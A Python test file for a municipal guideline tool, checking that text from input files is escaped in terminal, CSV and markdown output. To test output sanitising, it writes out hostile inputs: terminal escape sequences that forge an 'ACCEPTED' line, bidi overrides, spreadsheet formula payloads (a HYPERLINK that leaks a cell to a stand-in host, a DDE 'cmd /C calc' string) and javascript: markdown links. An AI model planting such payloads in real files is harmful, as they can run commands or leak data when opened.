"""Text from a file reaches a terminal, a spreadsheet or a markdown page shown, never obeyed
(issue 21, items 5 to 7): escape sequences, line breaks, rich markup, formulas, links."""

import csv
import io
import json
import os

import pytest

from sirules.language.printable import json_safe, printable

from .cli_helpers import run

ROOT = os.path.dirname(os.path.dirname(os.path.abspath(__file__)))
ALE = os.path.join(ROOT, "guidelines", "ale.sir")
ALE_JOINT = os.path.join(ROOT, "examples", "ale", "obligations", "joint-three-sectors.toml")

#: what a hostile application writes (as TOML escapes): clear the line, go to its start, say ACCEPTED;
#: rich markup; a right-to-left override; a C1 CSI
EVIL = r"\u001b[2K\rACCEPTED [bold]b[/bold] \u202e\u009b"
RAW = "\x1b[2K\rACCEPTED [bold]b[/bold] \u202e\x9b"


def evil_application(tmp_path, name="\x1b[2Kevil.toml"):
    with open(ALE_JOINT, encoding="utf-8") as fh:
        src = fh.read()
    src = (src.replace('title = "Fritidsledare', f'title = "{EVIL}Fritidsledare')
              .replace('"årskurs 4-6"]', f'"{EVIL}"]')
              .replace('actor = "Sektor samhällsbyggnad"', f'actor = "{EVIL}"')
              .replace('name = "Sektor samhällsbyggnad"', f'name = "{EVIL}"')
              .replace("[applicant]", f'"{EVIL}" = 1\n[applicant]'))
    p = tmp_path / name
    p.write_text(src, encoding="utf-8")
    return str(p)


def assert_shown_not_obeyed(text: str) -> None:
    for ch in ("\x1b", "\r", "\x9b", "\u202e"):
        assert ch not in text, (ch, text)
    # no line of its own says ACCEPTED: the forged text stays inside the line that quotes it
    assert not any(line.lstrip().startswith("ACCEPTED [bold]") for line in text.splitlines())


def test_printable_escapes_controls_and_keeps_text():
    assert printable("Mötesplats – väg till arbete\t") == "Mötesplats – väg till arbete\\t"
    assert printable(RAW) == "\\x1b[2K\\rACCEPTED [bold]b[/bold] \\u202e\\x9b"
    assert printable("a\nb") == "a\\nb"
    assert printable("a\nb\x1b", keep="\n") == "a\nb\\x1b"
    assert printable("\ud800") == "\\ud800"


def test_json_safe_decodes_to_the_same_values():
    text = json.dumps({"t": RAW + "\u2028\x7f"}, ensure_ascii=False)
    safe = json_safe(text)
    assert json.loads(safe) == json.loads(text)
    assert_shown_not_obeyed(safe)
    assert "\u2028" not in safe and "\x7f" not in safe


@pytest.mark.parametrize("extra", [(), ("--explain",), ("--suggest",), ("--format", "json")])
def test_check_plain_and_json(tmp_path, extra):
    code, out, err = run("check", ALE, evil_application(tmp_path), *extra)
    assert code in (0, 1), err
    assert_shown_not_obeyed(out + err)
    if extra == ("--format", "json"):
        assert json.loads(out)["application"].endswith("\x1b[2Kevil.toml")


def test_check_summary_of_several(tmp_path):
    code, out, err = run("check", ALE, evil_application(tmp_path), evil_application(tmp_path, "b\nACCEPTED.toml"))
    assert_shown_not_obeyed(out + err)
    assert "b\\nACCEPTED.toml" in out


def test_check_rich_output_escapes_controls_and_markup(tmp_path, monkeypatch):
    monkeypatch.setenv("SIRULES_RICH", "1")
    gdir = tmp_path / "g"
    gdir.mkdir()
    with open(ALE, encoding="utf-8") as fh:
        src = fh.read()
    src = src.replace('riktlinje "Sociala', 'riktlinje "[bold]fet[/bold] \u202e\x9b[2KSociala', 1)
    (gdir / "ale.sir").write_text(src, encoding="utf-8")
    code, out, err = run("check", str(gdir / "ale.sir"), evil_application(tmp_path), "--no-cache")
    assert code in (0, 1), err
    assert_shown_not_obeyed(out + err)
    assert "[bold]fet[/bold]" in out            # markup from a file prints as written
    assert "[bold]b[/bold]" in out


@pytest.mark.parametrize("fmt", ["text", "csv", "json"])
def test_obligations(tmp_path, fmt):
    code, out, err = run("obligations", ALE, evil_application(tmp_path), "--format", fmt)
    assert code == 0, err
    if fmt != "csv":
        assert_shown_not_obeyed(out + err)


@pytest.mark.parametrize("fmt", ["text", "json"])
def test_calc(tmp_path, fmt):
    code, out, err = run("calc", ALE, evil_application(tmp_path), "--format", fmt)
    assert code == 0, err
    assert_shown_not_obeyed(out + err)


def test_diagnostics_escape_the_value_and_the_source_line(tmp_path):
    p = tmp_path / "bad\x1b[2K.toml"
    p.write_text(f'amount = "{EVIL}"\n', encoding="utf-8")
    code, out, err = run("check", ALE, str(p))
    assert code == 2
    assert_shown_not_obeyed(out + err)
    assert "\\x1b" in err


def test_guideline_diagnostic_source_line_and_caret(tmp_path):
    p = tmp_path / "g.sir"
    p.write_text('guideline "x"\nmust a "ab\u202e\x9b": amount <= 1 MSEK and nosuchname\n', encoding="utf-8")
    code, out, err = run("check", str(p), ALE_JOINT, "--no-cache")
    assert code == 2
    assert_shown_not_obeyed(out + err)
    lines = err.splitlines()
    src = next(i for i, line in enumerate(lines) if "must a" in line and "|" in line)
    assert "\\u202e\\x9b" in lines[src]
    assert lines[src + 1].index("^") == lines[src].index("nosuchname")    # the caret still under the name


@pytest.mark.parametrize("fmt", ["text", "markdown", "json"])
def test_compare_behaviour(tmp_path, fmt):
    code, out, err = run("compare", ALE, ALE + "@2014-01-01", "--applications", evil_application(tmp_path), "--format", fmt)
    assert code == 0, err
    assert_shown_not_obeyed(out + err)


# ---- spreadsheets (item 6) -------------------------------------------------------------------

FORMULA = '=HYPERLINK("http://example.invalid/?"&A1,"klicka")'


def formula_application(tmp_path, name="app.toml"):
    with open(ALE_JOINT, encoding="utf-8") as fh:
        src = fh.read()
    link = '"=HYPERLINK(\\"http://example.invalid/\\")"'
    src = (src.replace('"Sektor samhällsbyggnad"', link)
              .replace('"Sektor arbete, trygghet och omsorg"', '"-2+3"')
              .replace('name = "Sektor utbildning, kultur och fritid"', 'name = "@SUM(1+1)"'))
    p = tmp_path / name
    p.write_text(src, encoding="utf-8")
    return str(p)


def cells(text):
    rows = list(csv.reader(io.StringIO(text), delimiter=";" if text.split("\n")[0].count(";") else ","))
    return rows[0], rows[1:]


def assert_no_live_formula(rows):
    for row in rows:
        for cell in row:
            if cell[:1] in ("=", "+", "@", "\t", "\r"):
                raise AssertionError(f"live formula {cell!r} in {row}")
            if cell.startswith("-"):                  # only a number the program wrote may start with -
                int(cell)


def test_csv_cell_neutralises_text_and_keeps_numbers():
    from sirules.report.cells import csv_cell, csv_text
    assert csv_cell(FORMULA) == "'" + FORMULA
    for text in ("+1", "-1+2", "@x", "\tx", "\nx"):
        assert csv_cell(text) == "'" + text
    assert csv_cell("\rx") == "'\nx"
    assert csv_cell(-150000) == -150000 and csv_cell("Sektor") == "Sektor" and csv_cell("") == ""
    assert csv_text(["a", "b"], [["=1+2", -5]]) == "a,b\n'=1+2,-5\n"
    # a bare carriage return would split the row; other controls are shown as on a terminal
    assert list(csv.reader(io.StringIO(csv_text(["a"], [["x\ry\x1b"]])))) == [["a"], ["x\ny\\x1b"]]


def test_obligations_csv(tmp_path):
    code, out, err = run("obligations", ALE, formula_application(tmp_path), "--format", "csv")
    assert code == 0, err
    head, rows = cells(out)
    assert_no_live_formula(rows)
    payers = {r[head.index("payer")] for r in rows}
    assert "'=HYPERLINK(\"http://example.invalid/\")" in payers
    assert "'@SUM(1+1)" in {r[head.index("payee")] for r in rows}
    assert "'-2+3" in payers


def test_calc_csv_keeps_negative_numbers(tmp_path):
    code, out, err = run("calc", ALE, formula_application(tmp_path), "--format", "csv")
    assert code == 0, err
    head, rows = cells(out)
    assert_no_live_formula(rows)
    assert "'=HYPERLINK(\"http://example.invalid/\")" in {r[0] for r in rows}
    nets = [int(r[head.index("net_kr")]) for r in rows]
    assert any(n < 0 for n in nets)                    # a cost is a negative number, not a quoted text


def test_compare_behaviour_csv_file_named_like_a_formula(tmp_path):
    apps = tmp_path / "apps"
    apps.mkdir()
    formula_application(apps, "=1+2.toml")
    code, out, err = run("compare", ALE, ALE + "@2014-01-01", "--applications", str(apps), "--format", "csv")
    assert code == 0, err
    head, rows = cells(out)
    assert_no_live_formula(rows)
    assert rows[0][0] == "'=1+2"


def test_compare_structure_and_changes_csv(tmp_path):
    with open(ALE, encoding="utf-8") as fh:
        src = fh.read()
    evil = tmp_path / "evil.sir"
    evil.write_text(src.replace('organ: "Ale kommun"', 'organ: "=cmd|\' /C calc\'!A0"'), encoding="utf-8")
    for extra in (("--table",), ("--changes",)):
        code, out, err = run("compare", ALE, str(evil), *extra, "--format", "csv", "--no-cache")
        assert code == 0, err
        head, rows = cells(out)
        assert_no_live_formula(rows)
        assert any(c.startswith("'=cmd") for r in rows for c in r)


# ---- markdown (item 7) -----------------------------------------------------------------------

def test_markdown_text_escapes_links_images_and_line_breaks():
    from sirules.report.cells import markdown_text
    got = markdown_text("a\nb | [x](javascript:alert(1)) ![i](https://example.invalid/p.png) <b>`c`</b> &amp;")
    assert "\n" not in got and "\\n" in got
    assert "](" not in got.replace("\\](", "") and "![" not in got.replace("!\\[", "")
    assert "\\|" in got and "\\<b\\>" in got and "\\`" in got and "\\&amp;" in got


def test_compare_markdown_with_hostile_file_name(tmp_path):
    apps = tmp_path / "apps"
    apps.mkdir()
    formula_application(apps, "x\n| a | [l](javascript:alert(1)) ![i](https:example.invalid).toml")
    code, out, err = run("compare", ALE, ALE + "@2014-01-01", "--applications", str(apps), "--format", "markdown")
    assert code == 0, err
    tables = [[]]
    for line in out.splitlines():
        if line.startswith("|"):
            tables[-1].append(line)
        elif tables[-1]:
            tables.append([])
    for table in tables:                               # every row has as many cells as the head
        assert len({line.count("|") - line.count("\\|") for line in table}) <= 1, table
    assert "[l](javascript" not in out and "![i](" not in out


def test_sirules_test_text_and_schema(tmp_path):
    p = evil_application(tmp_path)
    with open(p, "a", encoding="utf-8") as fh:
        fh.write(f'\n[expect]\nverdict = "rejected"\n[expect.findings]\nsamverkan = "fail"\n')
    code, out, err = run("test", ALE, "--examples", p)
    assert code == 1, err
    assert_shown_not_obeyed(out + err)
    gdir = tmp_path / "g"
    gdir.mkdir()
    with open(ALE, encoding="utf-8") as fh:
        src = fh.read()
    (gdir / "ale.sir").write_text(src.replace('riktlinje "Sociala', 'riktlinje "\u202e\x9bSociala', 1),
                                  encoding="utf-8")
    code, out, err = run("schema", str(gdir / "ale.sir"))
    assert code == 0, err
    assert_shown_not_obeyed(out + err)
    assert json.loads(out)["title"].startswith("Ansökan enligt \u202e\x9bSociala")


def test_rich_on_a_real_terminal_draws_its_own_colours_only(tmp_path):
    from rich.console import Console

    import sirules
    from sirules import compare
    from sirules.compare.render import document, print_rich
    from sirules.report import richtext
    g = sirules.load(ALE)
    path = evil_application(tmp_path)
    buf = io.StringIO()
    console = Console(file=buf, force_terminal=True, width=120, color_system="standard")
    r = g.check(path)
    richtext.print_result(r, console, explain=True)
    richtext.print_summary([r, r], console)
    subjects = compare.load_subjects([ALE, ALE + "@2014-01-01"])
    for report, data in (("behaviour", compare.behaviour(subjects, [path], None)),
                         ("structure", compare.compare(subjects, None))):
        print_rich(document(report, data, "auto", 120, True), console, "sv")
    out = buf.getvalue()
    assert "\x1b[" in out                                  # rich's own colours are there
    for raw in ("\x1b[2K", "\r", "\x9b", "\u202e"):
        assert raw not in out
    assert "\\x1b[2K\\rACCEPTED [bold]b[/bold]" in out


@pytest.mark.parametrize("argv", [("debug", "tree"), ("debug", "nodes"), ("debug", "model"), ("debug", "code"),
                                  ("fmt", "--diff")])
def test_debug_and_fmt_diff_show_controls_escaped(tmp_path, argv):
    p = tmp_path / "g.sir"
    p.write_text('guideline   "R\u202e\x9b"\n# a comment \u2066\x85 x\nmust a "b\u202e": amount <= 1 MSEK\n',
                 encoding="utf-8")
    code, out, err = run(*argv, str(p))
    assert code in (0, 1), err
    assert_shown_not_obeyed(out + err)
    assert "\\u202e" in out or argv == ("debug", "code")        # the code does not quote the title


def test_batch_json_lines_escape_what_json_dumps_leaves_raw(tmp_path):
    """`check --batch` writes DEL, C1 and bidirectional controls as \\uXXXX, as every JSON output does."""
    import subprocess
    import sys
    lines = tmp_path / "apps.jsonl"
    lines.write_text('{"id": "a\\u202eb", "title": "x\\u0085y\\u007f"}\n', encoding="utf-8")
    root = os.path.dirname(os.path.dirname(os.path.abspath(__file__)))
    out = subprocess.run([sys.executable, "-m", "sirules", "check", os.path.join(root, "guidelines", "ale.sir"),
                          "--batch", str(lines)], capture_output=True, text=True, cwd=root).stdout
    assert out and not any(ch in out for ch in "\u202e\u0085\u007f")
    assert json.loads(out)["application"] == "a\u202eb"
